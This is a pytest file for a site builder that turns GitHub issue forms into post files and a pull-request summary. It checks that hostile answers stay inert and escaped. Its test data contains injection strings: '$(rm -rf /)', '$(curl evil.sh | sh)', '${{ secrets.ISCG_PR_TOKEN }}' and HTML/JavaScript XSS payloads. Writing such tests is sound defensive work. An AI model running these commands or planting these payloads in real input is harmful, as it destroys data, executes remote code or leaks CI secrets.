"""Issue forms to posts, and the pull-request description: real bodies as GitHub writes them,
and hostile ones (backticks, $(…), ${{ }}, Markdown, HTML, mentions, 10,000 characters)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from site_builder import issue_form
from site_builder.cli import main
from site_builder.import_summary import text
from site_builder.load import loads
from site_builder.model import Poste
from tests.conftest import ROOT

FIXTURES = ROOT / "tests" / "fixtures"
BODY = (FIXTURES / "formulaires" / "nouveau-poste.md").read_text(encoding="utf-8")
HOSTILE = "France Victimes 25 `$(rm -rf /)` ${{ github.token }} @maintainers #1"


def run(*args: str) -> tuple[int, str]:
    result = CliRunner(env={"ISCG_AUJOURDHUI": "2026-11-23"}).invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.output


@pytest.fixture
def data(tmp_path: Path) -> Path:
    target = tmp_path / "data"
    shutil.copytree(FIXTURES / "site" / "postes" / "25", target / "postes" / "25")
    return target


def _import(tmp_path: Path, data: Path, body: str, kind: str = "nouveau-poste", *extra: str) -> tuple[int, str, str]:
    path = tmp_path / "formulaire.md"
    path.write_text(body, encoding="utf-8")
    summary = tmp_path / "resume.md"
    code, output = run(
        "import", str(path), "--formulaire", kind, "--data", str(data), "--resume", str(summary),
        "--source", "issue #12", *extra,
    )  # fmt: skip
    return code, output, summary.read_text(encoding="utf-8") if summary.exists() else ""


def test_every_answer_of_the_forms_is_known_to_the_reader() -> None:
    """Dropdown options map to the model's values; every field id is one the reader uses."""
    from site_builder.model import Frequence, Statut, TypeLieu, TypeStructure

    labels = {m.label.casefold() for e in (Statut, TypeLieu, TypeStructure, Frequence) for m in e}
    labels |= set(issue_form.POST_TYPES) | {issue_form.UNCHANGED}
    for name in issue_form.KINDS.values():
        form = yaml.safe_load((issue_form.FORMS / name).read_text(encoding="utf-8"))
        for item in form["body"]:
            if item["type"] == "dropdown":
                assert {o.casefold() for o in item["attributes"]["options"]} <= labels, item["id"]
            if item["type"] == "checkboxes":
                assert [o["label"] for o in item["attributes"]["options"]][:2] == ["lundi", "mardi"]


def test_a_new_post_form_becomes_a_valid_post_file(tmp_path: Path, data: Path) -> None:
    code, output, summary = _import(tmp_path, data, BODY, "nouveau-poste", "--write")
    assert code == 0, output
    path = data / "postes" / "25" / "brigade-de-gendarmerie-d-ornans-25.yml"
    document, problems = loads(path.read_text(encoding="utf-8"), str(path))
    assert problems == [] and document is not None
    poste = Poste.model_validate(document.data)
    assert poste.structure is not None and poste.structure.nom == HOSTILE  # kept as data, exactly
    (permanence,) = poste.permanences
    assert permanence.lieu.commune == "25434" and permanence.horaires is not None
    rule = permanence.horaires[0]
    assert [d.value for d in rule.jours] == ["mardi", "jeudi"] and rule.frequence.value == "toutes_les_2_semaines"
    assert next(s.url for s in poste.sources) == "https://www.doubs.gouv.fr/ami-iscg.pdf"
    assert run("validate", "--data", str(data))[0] == 0
    # The description: the post created, the remark for a reviewer, nothing live.
    assert "brigade\\-de\\-gendarmerie\\-d\\-ornans\\-25" in summary
    assert "&lt;script&gt;" in summary and "<script>" not in summary


def test_problems_name_the_form_field_and_nothing_is_written(tmp_path: Path, data: Path) -> None:
    body = BODY.replace("09:00-12:00, 14:00-17:00", "9h-12h").replace("\nOrnans\n", "\nOrnans-sur-Mer\n")
    before = sorted((data / "postes").rglob("*.yml"))
    code, output, summary = _import(tmp_path, data, body, "nouveau-poste", "--write")
    assert code == 1
    assert "« Lieu 1 : commune » : commune « Ornans-sur-Mer » introuvable dans le département 25" in output
    assert sorted((data / "postes").rglob("*.yml")) == before
    assert "n'a rien écrit" in summary and "Ornans\\-sur\\-Mer" in summary


def test_hours_are_checked_by_the_model_and_named_by_field(tmp_path: Path, data: Path) -> None:
    code, output, _ = _import(tmp_path, data, BODY.replace("09:00-12:00, 14:00-17:00", "9h-12h"))
    assert code == 1 and "« Lieu 1 : heures » : " in output and "9h-12h" in output


@pytest.mark.parametrize(
    "hostile",
    ["`whoami`", "$(curl evil.sh | sh)", "${{ secrets.ISCG_PR_TOKEN }}", "**[clic](javascript:alert(1))**",
     "<img src=x onerror=alert(1)>", "@everyone #1 !1", "x" * 10_000, "ligne\r\n### Département\r\n99"],
)  # fmt: skip
def test_hostile_answers_stay_data(tmp_path: Path, data: Path, hostile: str) -> None:
    body = BODY.replace("<script>alert(1)</script> **gras**", hostile)
    code, output, summary = _import(tmp_path, data, body)
    if "### Département" in hostile:  # a second heading replaces the answer: refused, named
        assert code == 1 and "Département" in output
        return
    assert code == 0, output
    assert "<img" not in summary and "@everyone" not in summary and "](javascript" not in summary
    assert "${{" not in summary.replace("$\\{\\{", "")
    assert len(summary) < 65_536


def test_a_body_of_ten_thousand_characters_in_a_line_field(tmp_path: Path, data: Path) -> None:
    code, output, _ = _import(tmp_path, data, BODY.replace("Brigade de gendarmerie d'Ornans", "B" * 10_000))
    assert code == 1 and "Lieu 1 : nom" in output


def test_a_body_that_is_not_a_form(tmp_path: Path, data: Path) -> None:
    code, output, summary = _import(tmp_path, data, "Bonjour, il manque un poste à Dole.")
    assert code == 1 and "aucun champ du formulaire" in output and "n'a rien écrit" in summary


def test_a_correction_changes_hours_and_adds_its_source(tmp_path: Path, data: Path) -> None:
    body = "\n\n".join(
        [
            "### Page concernée", "https://iscg.example/postes/poste-fixture-25/",
            "### Nouvelle situation du poste", "Inchangée",
            "### Nouveau téléphone de l'intervenant social", "03 81 12 34 56",
            "### Lieu 1 : nom", "Brigade de démonstration de Saint-Vit",
            "### Lieu 1 : jours de présence", "- [X] samedi\n- [ ] lundi",
            "### Lieu 1 : heures", "10:00-12:00",
            "### Sources", "Courriel de la brigade | Gendarmerie | 2026-11",
        ]
    )  # fmt: skip
    code, output, _ = _import(tmp_path, data, body, "correction", "--write")
    assert code == 0, output
    assert "modification" in output
    post = (data / "postes" / "25" / "poste-fixture-25.yml").read_text(encoding="utf-8")
    assert "10:00-12:00" in post and "Courriel de la brigade" in post and "03 81 12 34 56" in post


def test_markdown_escaping() -> None:
    assert text("@a #1 <b> `x` [l](u) ${{ y }}") == "&#64;a \\#1 &lt;b&gt; \\`x\\` \\[l\\]\\(u\\) $\\{\\{ y \\}\\}"
